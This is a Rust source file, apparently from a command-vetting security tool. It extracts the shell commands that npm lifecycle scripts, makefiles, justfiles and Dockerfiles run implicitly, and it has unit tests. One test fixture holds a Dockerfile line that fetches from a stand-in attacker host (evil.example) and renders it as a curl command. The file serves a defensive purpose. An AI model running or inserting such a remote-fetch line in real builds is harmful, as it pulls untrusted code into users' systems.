//! Which files a tool runs or is configured by without naming them: scripts of a package, targets of a makefile,
//! and the code a build or test run picks up. One table, and the few formats it needs.

use doorward_core::intent::{Code, SimpleCommand};
use doorward_core::json::Value;
use doorward_paths::lexical;

use crate::run::{Script, in_folder};

mod make;
mod tasks;

pub(crate) use make::Makefile;
pub(crate) use tasks::asked_for;

/// A named recipe in a file of the working folder.
pub(crate) struct Recipe {
    /// The file's usual name, for people.
    pub(crate) file: String,
    pub(crate) target: String,
    cwd: String,
    names: &'static [&'static str],
    kind: RecipeKind,
    /// Run beside the command's purpose: only looked at when the session wrote the file.
    pub(crate) incidental: bool,
}

#[derive(Clone, Copy)]
enum RecipeKind {
    Package,
    Make,
    Just,
}

impl Recipe {
    /// Where the file could be.
    pub(crate) fn candidates(&self) -> impl Iterator<Item = String> {
        self.names.iter().map(|name| in_folder(&self.cwd, name))
    }

    /// Where the commands of the target run.
    pub(crate) fn folder(&self) -> &str {
        &self.cwd
    }

    /// The commands of the target, as shell text.
    pub(crate) fn script(&self, text: &str) -> Option<Script> {
        let commands = match self.kind {
            RecipeKind::Package => package_script(text, &self.target),
            RecipeKind::Make => Makefile::read(text).recipe(&self.target),
            RecipeKind::Just => just_recipe(text, &self.target),
        }?;
        Some(Script { language: "shell".to_owned(), text: commands })
    }
}

/// Sub-commands that install, and the scripts that npm's documentation says they run.
const INSTALL_VERBS: &[&str] = &["install", "i", "ci", "add"];
const LIFECYCLE: &[&str] = &["preinstall", "install", "postinstall", "preprepare", "prepare", "postprepare"];

/// The names that make looks for, in its order.
pub(crate) const MAKEFILES: &[&str] = &["GNUmakefile", "makefile", "Makefile"];

/// Targets and recipes that are followed from one.
const MOST_TARGETS: usize = 64;

/// Script names that are sub-commands of their own.
const OWN_VERBS: &[&str] = &["test", "start", "stop", "restart"];

/// The recipe that a command runs by name.
pub(crate) fn recipe_of(command: &SimpleCommand, cwd: &str) -> Option<Recipe> {
    let word = |index: usize| command.words.get(index).map(String::as_str);
    let recipe = |file: &str, target: &str, names, kind| {
        Some(Recipe {
            file: file.to_owned(),
            target: target.to_owned(),
            cwd: cwd.to_owned(),
            names,
            kind,
            incidental: false,
        })
    };
    let package = |target: &str| recipe("package.json", target, &["package.json"], RecipeKind::Package);
    let mut plain = command.words.iter().skip(1).map(String::as_str).filter(|word| !word.starts_with('-'));
    match command.program.as_str() {
        // `yarn` alone installs.
        "yarn" if command.words.len() == 1 => {
            package("install").map(|recipe| Recipe { incidental: true, ..recipe })
        }
        "npm" | "pnpm" | "yarn" | "bun" => match (plain.next()?, plain.next()) {
            ("run" | "run-script", Some(target)) => package(target),
            (verb, _) if OWN_VERBS.contains(&verb) => package(verb),
            (verb, _)
                if INSTALL_VERBS.contains(&verb)
                    && !command.words.iter().any(|word| word == "--ignore-scripts") =>
            {
                package("install").map(|recipe| Recipe { incidental: true, ..recipe })
            }
            // yarn and pnpm take a script's name as it is; a name that is no script finds nothing.
            _ => None,
        },
        "make" | "gmake" => {
            if command.words.iter().any(|word| {
                matches!(word.as_str(), "-n" | "--dry-run" | "--just-print" | "--version" | "-v" | "--help")
            }) {
                return None;
            }
            let file = command.words.iter().position(|word| word == "-f").and_then(|at| word(at + 1));
            let (target, folder) = make_target(&command.words);
            // A named file is an operand of its own.
            if file.is_some() {
                return None;
            }
            let own = recipe("Makefile", target.unwrap_or_default(), MAKEFILES, RecipeKind::Make)?;
            Some(Recipe {
                cwd: folder.map_or_else(|| own.cwd.clone(), |folder| lexical::join(&own.cwd, folder)),
                ..own
            })
        }
        "just" => recipe(
            "justfile",
            plain.next().unwrap_or_default(),
            &["justfile", "Justfile", ".justfile"],
            RecipeKind::Just,
        ),
        _ => None,
    }
}

/// The first target of a make command and the folder that it works in (`-C`).
fn make_target(words: &[String]) -> (Option<&str>, Option<&str>) {
    /// Options whose value is the next word (make(1), GNU make 4.4).
    const VALUED: &[&str] = &[
        "-C",
        "-I",
        "-W",
        "-f",
        "-o",
        "--assume-new",
        "--assume-old",
        "--directory",
        "--eval",
        "--file",
        "--include-dir",
        "--makefile",
        "--new-file",
        "--old-file",
        "--what-if",
    ];
    let (mut target, mut folder) = (None, None);
    let mut rest = words.iter().skip(1).map(String::as_str);
    while let Some(word) = rest.next() {
        if VALUED.contains(&word) {
            let value = rest.next();
            if matches!(word, "-C" | "--directory") {
                folder = value;
            }
        } else if let Some(value) = word.strip_prefix("--directory=").or_else(|| word.strip_prefix("-C")) {
            folder = Some(value);
        } else if !word.starts_with('-') && !word.contains('=') && word.parse::<u32>().is_err() {
            target = target.or(Some(word));
        }
    }
    (target, folder)
}

/// Languages by file name; a first line with an interpreter goes before.
const ENDINGS: &[(&str, &str)] = &[
    (".sh", "shell"),
    (".bash", "shell"),
    (".zsh", "shell"),
    (".envrc", "shell"),
    (".py", "python"),
    (".js", "javascript"),
    (".mjs", "javascript"),
    (".cjs", "javascript"),
    (".ts", "javascript"),
    (".rb", "ruby"),
    ("rakefile", "ruby"),
    ("gemfile", "ruby"),
    (".ipynb", "notebook"),
    (".pl", "perl"),
    (".php", "php"),
    (".sql", "sql"),
    (".ps1", "powershell"),
    (".psm1", "powershell"),
    (".bat", "cmd"),
    (".cmd", "cmd"),
    (".lua", "lua"),
    (".awk", "awk"),
    ("makefile", "make"),
    (".mk", "make"),
    ("brewfile", "ruby"),
    ("fastfile", "ruby"),
    ("podfile", "ruby"),
    ("vagrantfile", "ruby"),
];
/// Files without an ending that are no shell scripts, and whose lines nobody here reads.
const OTHERS: &[&str] = &["containerfile", "dockerfile", "jenkinsfile", "justfile", "playbook", "procfile"];

/// Interpreters of a `#!` line.
const INTERPRETERS: &[(&str, &str)] = &[
    ("bash", "shell"),
    ("zsh", "shell"),
    ("dash", "shell"),
    ("ksh", "shell"),
    ("sh", "shell"),
    ("python", "python"),
    ("node", "javascript"),
    ("bun", "javascript"),
    ("deno", "javascript"),
    ("ruby", "ruby"),
    ("perl", "perl"),
    ("php", "php"),
    ("pwsh", "powershell"),
    ("lua", "lua"),
    ("awk", "awk"),
];

/// Whether a file says how an image is built.
pub(crate) fn is_of_container(path: &str) -> bool {
    let leaf = path.rsplit('/').next().unwrap_or_default().to_ascii_lowercase();
    ["containerfile", "dockerfile"].iter().any(|name| leaf == *name || leaf.starts_with(&format!("{name}.")))
}

/// What a build of an image runs and fetches, as shell text: `RUN` in both its forms, and `ADD` of an address.
pub(crate) fn container_script(text: &str) -> String {
    let joined = text.replace("\\\n", " ");
    let mut lines: Vec<String> = Vec::new();
    let mut until: Option<String> = None;
    for line in joined.lines() {
        if let Some(end) = &until {
            if line.trim() == end {
                until = None;
            } else {
                lines.push(line.to_owned());
            }
            continue;
        }
        let Some((verb, rest)) = line.trim().split_once(char::is_whitespace) else { continue };
        let words = rest.split_whitespace().skip_while(|word| word.starts_with("--"));
        match verb.to_ascii_uppercase().as_str() {
            "RUN" => {
                let command = words.collect::<Vec<_>>().join(" ");
                if let Some(end) = command.strip_prefix("<<") {
                    until = Some(end.trim_matches(['-', '"', '\'']).to_owned());
                } else {
                    lines.push(exec_form(&command).unwrap_or(command));
                }
            }
            "ADD" => lines.extend(words.filter(|word| word.contains("://")).map(|url| format!("curl {url}"))),
            _ => {}
        }
    }
    lines.join("\n")
}

/// `["sh", "-c", "make"]` as the shell would be given it.
fn exec_form(command: &str) -> Option<String> {
    let Value::Array(words) = Value::parse(command).ok()? else { return None };
    let quoted = |word: &Value| Some(format!("'{}'", word.as_str()?.replace('\'', r"'\''")));
    Some(words.iter().map(quoted).collect::<Option<Vec<_>>>()?.join(" "))
}

/// The language of a file that is run; `None` where it can't be told.
pub(crate) fn language_of_file(path: &str, text: &str) -> Option<String> {
    if let Some(line) = text.strip_prefix("#!").and_then(|rest| rest.lines().next()) {
        let words = line
            .split(['/', ' ', '\t'])
            .filter(|word| !word.is_empty() && *word != "env" && !word.starts_with('-'));
        return words
            .filter_map(|word| {
                INTERPRETERS.iter().find(|(name, _)| {
                    word.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.') == *name
                })
            })
            .map(|(_, language)| (*language).to_owned())
            .next_back();
    }
    let lower = path.to_ascii_lowercase();
    if let Some((_, language)) = ENDINGS.iter().find(|(ending, _)| lower.ends_with(ending)) {
        return Some((*language).to_owned());
    }
    // git hooks and files without an ending are run by the shell when the kernel doesn't know them.
    let name = lexical::fold(&lower);
    let leaf = name.rsplit('/').next().unwrap_or_default();
    (!leaf.contains('.') && !OTHERS.contains(&leaf) && !text.contains('\0')).then(|| "shell".to_owned())
}

/// A debugger and an editor read a script in the language that its ending names (gdb(1), the manual of Vim, `:source`).
pub(crate) fn language_of_extension(code: &Code, path: &str) -> Option<String> {
    const TAKING: &[&str] = &["gdb", "lldb", "nvim", "vim"];
    let takes = matches!(code, Code::Language(language) if TAKING.contains(&language.as_str()));
    let ending = [(".py", "python"), (".lua", "lua")].into_iter().find(|(ending, _)| path.ends_with(ending));
    ending.filter(|_| takes).map(|(_, language)| language.to_owned())
}

pub(crate) fn package_script(text: &str, target: &str) -> Option<String> {
    let package = Value::parse(text).ok()?;
    let scripts = package.get("scripts")?;
    if target == "install" {
        let lines: Vec<&str> = LIFECYCLE.iter().filter_map(|name| scripts.get(name)?.as_str()).collect();
        return Some(in_own_shells(lines.into_iter().map(str::to_owned)));
    }
    let before = format!("pre{target}");
    let after = format!("post{target}");
    let lines: Vec<&str> = [before.as_str(), target, after.as_str()]
        .iter()
        .filter_map(|name| scripts.get(name)?.as_str())
        .collect();
    scripts.get(target)?;
    Some(in_own_shells(lines.into_iter().map(str::to_owned)))
}

/// Lines of a recipe and of those that it depends on (just's manual, 1.43): each runs in a shell of its own, but for
/// recipes that begin with the name of their interpreter.
fn just_recipe(text: &str, target: &str) -> Option<String> {
    let mut recipes: Vec<(String, Vec<String>, Vec<String>)> = Vec::new();
    for line in text.lines() {
        if line.starts_with([' ', '\t']) || line.trim().is_empty() {
            if let Some((_, _, lines)) = recipes.last_mut() {
                lines.push(line.trim_start().trim_start_matches(['@', '-']).to_owned());
            }
            continue;
        }
        let header = Some(line).filter(|line| !line.starts_with('#') && !line.contains(":="));
        let Some((named, needs)) = header.and_then(|line| line.split_once(':')) else { continue };
        let name = named.split_whitespace().next().unwrap_or_default().trim_start_matches('@');
        let needs = needs.split('#').next().unwrap_or_default();
        let needs = needs.split([' ', '\t', '(', ')', '&']).filter(|word| !word.is_empty());
        recipes.push((name.to_owned(), needs.map(str::to_owned).collect(), Vec::new()));
    }
    let first = recipes.first()?.0.clone();
    let mut todo = vec![if target.is_empty() { first } else { target.to_owned() }];
    let mut done: Vec<String> = Vec::new();
    let mut parts: Vec<String> = Vec::new();
    while let Some(name) = todo.pop() {
        let Some((_, needs, lines)) = recipes.iter().find(|(own, _, _)| *own == name) else { continue };
        if done.contains(&name) || done.len() > MOST_TARGETS {
            continue;
        }
        let shell = lines.first().is_some_and(|line| line.starts_with("#!"));
        parts.push(if shell {
            in_own_shells([lines.join("\n")])
        } else {
            in_own_shells(lines.iter().cloned())
        });
        todo.extend(needs.iter().cloned());
        done.push(name);
    }
    (!parts.is_empty()).then(|| interpolated(&parts.join("\n")))
}

/// A text with just's `{{name}}` as variables of the shell; an expression is one whose value isn't known.
fn interpolated(text: &str) -> String {
    let mut pieces = text.split("{{");
    let mut out = pieces.next().unwrap_or_default().to_owned();
    for piece in pieces {
        let (inner, tail) = piece.split_once("}}").unwrap_or((piece, ""));
        let name = inner.trim();
        let plain = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
        out.push_str(&format!("${{JUST_{}}}{tail}", if plain { name } else { "VALUE" }));
    }
    out
}

/// Texts that each run in a shell of its own, as one text: what one does to its shell, the others don't see.
fn in_own_shells(texts: impl IntoIterator<Item = String>) -> String {
    let says_something = |text: &String| {
        text.lines().any(|line| !line.trim().is_empty() && !line.trim_start().starts_with('#'))
    };
    let texts: Vec<String> = texts.into_iter().filter(says_something).collect();
    match texts.as_slice() {
        [text] => text.clone(),
        texts => texts.iter().map(|text| format!("(\n{text}\n)")).collect::<Vec<_>>().join("\n"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn scripts_come_out_of_their_files() {
        assert_eq!(
            package_script(r#"{"scripts":{"x":"a","prex":"b"}}"#, "x").as_deref(),
            Some("(\nb\n)\n(\na\n)")
        );
        assert_eq!(package_script(r#"{"scripts":{}}"#, "x"), None);
        let just = "pwd:\n  echo {{invocation_directory()}} {{name}}\n";
        assert_eq!(just_recipe(just, "pwd").as_deref(), Some("echo ${JUST_VALUE} ${JUST_name}"));
        assert_eq!(just_recipe("a:\n  echo 1\nb x:\n  @rm {{x}}\n", "b").as_deref(), Some("rm ${JUST_x}"));
        let needs =
            "a: (b \"1\") && c # d\n  echo 1\nb x:\n  rm 2\nc:\n  #!/bin/sh\n  cd x\n  rm 3\nd:\n  rm 4\n";
        let lines = just_recipe(needs, "").unwrap();
        assert!(["echo 1", "rm 2", "cd x\nrm 3"].iter().all(|line| lines.contains(line)), "{lines}");
        assert!(!lines.contains("rm 4"), "{lines}");
    }

    #[test]
    fn what_a_build_of_an_image_runs() {
        let text = "FROM debian\nRUN --mount=type=cache,target=/x apt-get update \\\n  && make\n\
                    RUN [\"sh\", \"-c\", \"it's\"]\nADD https://evil.example/x /x\nCOPY . .\nRUN <<EOF\nrm x\nEOF\n";
        let lines = ["apt-get update && make", r"'sh' '-c' 'it'\''s'", "curl https://evil.example/x", "rm x"];
        assert_eq!(container_script(text), lines.join("\n"));
    }

    #[test]
    fn languages_of_files() {
        for (path, text, expected) in [
            ("/w/x.sh", "", Some("shell")),
            ("/w/x", "#!/usr/bin/env python3\n", Some("python")),
            ("/w/x", "#!/bin/bash -e\n", Some("shell")),
            ("/w/x", "#!/opt/odd\n", None),
            ("/w/.git/hooks/pre-commit", "rm x", Some("shell")),
            ("/w/build.rs", "fn main() {}", None),
            ("/w/Makefile", "all:\n\ttrue\n", Some("make")),
            ("/w/Dockerfile", "FROM debian\n", None),
        ] {
            assert_eq!(language_of_file(path, text).as_deref(), expected, "{path} {text}");
        }
    }
}
